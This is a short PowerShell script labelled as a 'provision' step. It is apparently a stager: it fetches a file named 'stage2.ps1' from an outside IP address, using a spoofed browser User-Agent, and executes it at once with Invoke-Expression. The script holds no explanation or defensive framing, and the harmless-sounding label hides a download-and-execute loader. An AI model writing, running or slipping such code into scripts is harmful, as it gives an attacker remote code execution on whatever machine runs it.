# provision 8979 v4
$u = 'http://192.0.2.150:443/'
$wc = New-Object System.Net.WebClient
$wc.Headers.Add('User-Agent','Mozilla/5.0')
$s = $wc.DownloadString($u + 'stage2.ps1')
Invoke-Expression $s
